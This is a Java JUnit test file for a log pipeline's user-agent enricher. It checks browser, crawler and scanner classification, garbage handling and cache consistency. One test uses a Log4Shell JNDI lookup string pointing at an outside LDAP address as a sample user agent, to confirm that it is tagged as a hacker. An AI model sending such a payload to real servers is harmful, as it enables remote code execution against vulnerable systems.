package io.logpulse.ingest.enrich;

import static org.assertj.core.api.Assertions.assertThat;

import io.logpulse.ingest.parse.AccessLogParser;
import io.logpulse.ingest.parse.LineContext;
import io.logpulse.ingest.parse.ParseResult;
import io.logpulse.schemas.AccessEvent;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * User agents taken from the nginx-combined-ployt0 and apache-combined-elastic corpora (each occurs
 * there; counts from {@code grep -c}). One analyzer for the class: yauaa needs seconds to start.
 * Expected names and versions are read off the user-agent strings; bot or not follows the schema's
 * definition of {@code user_agent_is_bot}.
 */
class UserAgentEnricherTest {

  private static UserAgentEnricher enricher;

  @BeforeAll
  static void startAnalyzer() {
    enricher = new UserAgentEnricher(1000);
  }

  @AfterAll
  static void stopAnalyzer() {
    enricher.close();
  }

  private static AccessEvent parse(String userAgent) {
    AccessEvent event = Events.minimal();
    event.setUserAgentOriginal(userAgent);
    enricher.enrich(event);
    return event;
  }

  @Test
  void desktopChromeOnWindows() {
    AccessEvent event =
        parse(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
                + " Chrome/100.0.4896.127 Safari/537.36");

    assertThat(event.getUserAgentName()).isEqualTo("Chrome");
    assertThat(event.getUserAgentVersion()).isEqualTo("100.0.4896.127");
    assertThat(event.getUserAgentOsName()).isEqualTo("Windows NT");
    assertThat(event.getUserAgentOsVersion()).isEqualTo(">=10"); // NT 10.0 is Windows 10 or 11
    assertThat(event.getUserAgentDeviceClass()).isEqualTo("Desktop");
    assertThat(event.getUserAgentIsBot()).isFalse();
  }

  @Test
  void safariOnIphone() {
    AccessEvent event =
        parse(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0_4 like Mac OS X) AppleWebKit/537.51.1 (KHTML,"
                + " like Gecko) Version/7.0 Mobile/11B554a Safari/9537.53");

    assertThat(event.getUserAgentName()).isEqualTo("Safari");
    assertThat(event.getUserAgentVersion()).isEqualTo("7.0");
    assertThat(event.getUserAgentOsName()).isEqualTo("iOS");
    assertThat(event.getUserAgentOsVersion()).isEqualTo("7.0.4");
    assertThat(event.getUserAgentDeviceName()).isEqualTo("Apple iPhone");
    assertThat(event.getUserAgentDeviceClass()).isEqualTo("Phone");
    assertThat(event.getUserAgentIsBot()).isFalse();
  }

  @Test
  void googlebotDesktopAndSmartphone() {
    AccessEvent desktop =
        parse("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)");
    assertThat(desktop.getUserAgentName()).isEqualTo("Googlebot");
    assertThat(desktop.getUserAgentVersion()).isEqualTo("2.1");
    assertThat(desktop.getUserAgentDeviceClass()).isEqualTo("Robot");
    assertThat(desktop.getUserAgentIsBot()).isTrue();

    AccessEvent smartphone =
        parse(
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML,"
                + " like Gecko) Chrome/105.0.5195.102 Mobile Safari/537.36 (compatible;"
                + " Googlebot/2.1; +http://www.google.com/bot.html)");
    assertThat(smartphone.getUserAgentName()).isEqualTo("Googlebot");
    assertThat(smartphone.getUserAgentDeviceClass()).isEqualTo("Robot Mobile");
    assertThat(smartphone.getUserAgentIsBot()).isTrue();
  }

  @Test
  void commandLineClientsAreBotsWithTheirVersion() {
    AccessEvent curl = parse("curl/7.54.0");
    assertThat(curl.getUserAgentName()).isEqualTo("Curl");
    assertThat(curl.getUserAgentVersion()).isEqualTo("7.54.0");
    assertThat(curl.getUserAgentIsBot()).isTrue();

    AccessEvent requests = parse("python-requests/2.26.0");
    assertThat(requests.getUserAgentVersion()).isEqualTo("2.26.0");
    assertThat(requests.getUserAgentIsBot()).isTrue();

    AccessEvent go = parse("Go-http-client/1.1");
    assertThat(go.getUserAgentVersion()).isEqualTo("1.1");
    assertThat(go.getUserAgentIsBot()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Mozilla/5.0 zgrab/0.x",
        "masscan-ng/1.3 (https://github.com/bi-zone/masscan-ng)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
      })
  void scannersAndCrawlersAreBots(String userAgent) {
    assertThat(parse(userAgent).getUserAgentIsBot()).isTrue();
  }

  @Test
  void log4ShellPayloadIsAHackerWithNoFakeVersionOrDevice() {
    AccessEvent event = parse("${jndi:ldap://193.46.254.0:1389/a}");

    assertThat(event.getUserAgentName()).isEqualTo("Hacker");
    assertThat(event.getUserAgentVersion()).isNull();
    assertThat(event.getUserAgentOsName()).isNull();
    assertThat(event.getUserAgentDeviceName()).isNull();
    assertThat(event.getUserAgentDeviceClass()).isEqualTo("Hacker");
    assertThat(event.getUserAgentIsBot()).isTrue();
  }

  @Test
  void absentUserAgentLeavesEveryFieldNull() {
    AccessEvent event = parse(null);
    event.setUserAgentName("stale");
    enricher.enrich(event);

    assertThat(event.getUserAgentName()).isNull();
    assertThat(event.getUserAgentVersion()).isNull();
    assertThat(event.getUserAgentOsName()).isNull();
    assertThat(event.getUserAgentOsVersion()).isNull();
    assertThat(event.getUserAgentDeviceName()).isNull();
    assertThat(event.getUserAgentDeviceClass()).isNull();
    assertThat(event.getUserAgentIsBot()).isNull();
  }

  @Test
  void garbageNeverThrows() {
    String[] agents = {"", " ", "\u0000\u0001", "x".repeat(10_000), "()()((;;;", "\\x16\\x03\\x01"};
    for (String agent : agents) {
      AccessEvent event = parse(agent);
      assertThat(event.getUserAgentIsBot() == null || event.getUserAgentDeviceClass() != null)
          .isTrue();
    }
  }

  /**
   * The enricher's own cache of field values must give what an uncached yauaa parse gives, on the
   * first (miss) and later (hit) look-ups of every distinct agent of the nginx corpus.
   */
  @Test
  void cachedFieldsEqualUncachedOnesForEveryAgentOfTheCorpus() throws IOException {
    Path corpus =
        Paths.get(System.getProperty("logpulse.shared.dir", "../../shared"), "data")
            .resolve("nginx-combined-ployt0")
            .resolve("access.log");
    AccessLogParser parser = new AccessLogParser(65_536);
    LineContext context = new LineContext("test", null, false);
    Set<String> agents = new LinkedHashSet<>();
    for (String line : Files.readAllLines(corpus, StandardCharsets.UTF_8)) {
      if (parser.parse(line, context) instanceof ParseResult.Parsed parsed
          && parsed.event().getUserAgentOriginal() != null) {
        agents.add(parsed.event().getUserAgentOriginal());
      }
    }
    assertThat(agents).hasSizeGreaterThan(100);
    try (UserAgentEnricher uncached = new UserAgentEnricher(0);
        UserAgentEnricher cached = new UserAgentEnricher(10_000)) {
      for (int pass = 0; pass < 2; pass++) {
        for (String agent : agents) {
          assertThat(fields(cached, agent)).as(agent).isEqualTo(fields(uncached, agent));
        }
      }
    }
  }

  private static List<Object> fields(UserAgentEnricher analyzer, String userAgent) {
    AccessEvent event = Events.minimal();
    event.setUserAgentOriginal(userAgent);
    analyzer.enrich(event);
    List<Object> fields = new ArrayList<>();
    fields.add(event.getUserAgentName());
    fields.add(event.getUserAgentVersion());
    fields.add(event.getUserAgentOsName());
    fields.add(event.getUserAgentOsVersion());
    fields.add(event.getUserAgentDeviceName());
    fields.add(event.getUserAgentDeviceClass());
    fields.add(event.getUserAgentIsBot());
    return fields;
  }
}
